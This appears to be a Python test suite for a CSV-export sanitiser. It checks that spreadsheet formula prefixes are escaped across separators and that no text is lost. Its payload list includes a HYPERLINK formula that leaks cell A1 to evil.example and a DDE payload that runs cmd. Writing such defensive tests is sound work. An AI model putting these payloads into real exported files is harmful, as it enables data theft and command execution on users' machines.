"""What a spreadsheet sees in a cell, whichever separator it goes by."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.commons.cells import csv_line, harmless, original

FORMULA = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")
TEXTS = st.text(alphabet="=+-@＝'\t\r\n,;| \"ab\u00a0") | st.text()
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]


def cells_of(line, separator):
    """Split as a spreadsheet may that knows nothing of our quotation marks."""
    return re.split(rf"[{separator}\r\n]", line)


@pytest.mark.parametrize("formula", FORMULAS)
def test_attack_33_formula_at_the_beginning_of_a_cell_is_text(formula):
    (cell,) = next(csv.reader(io.StringIO(csv_line([formula]), newline="")))

    assert cell == "'" + formula.replace("\t=", "\t'=").replace("\r=", "\r'=").replace("cmd|' ", "cmd|'' ")
    assert original(cell) == formula


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_attack_33_formula_behind_a_separator_of_another_country_is_text(separator, formula):
    line = csv_line(["Zavod", f"Ana{separator}{formula}", f'"{separator}"{formula}'])

    assert not any(FORMULA.match(cell) for cell in cells_of(line, separator))


@given(TEXTS)
def test_attack_33_no_text_begins_a_formula_and_none_is_lost(text):
    cell = harmless(text)

    assert original(cell) == text
    assert not any(FORMULA.match(part) for part in re.split(r"[,;|\t\r\n]", cell))
    assert cell[:1] not in ("\t", "\r")


@given(st.lists(TEXTS, min_size=1))
def test_attack_33_line_breaks_and_quotation_marks_begin_no_row_and_no_cell(texts):
    line = csv_line([*texts, "end"])

    assert line.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(line, newline=""), strict=True))
    assert [[original(cell) for cell in row] for row in rows] == [[*texts, "end"]]


def test_ordinary_words_stay_as_they_are():
    for text in ("Città di Beppe", "Φώτης", "L'Aquila", "AT-DORA", "a, b; c – d", "3/4 >= 2/3", ""):
        assert harmless(text) == text


def test_nothing_truths_and_numbers_are_plain():
    assert csv_line([None, True, False, 0, 4711, "x"]) == ",true,false,0,4711,x\r\n"
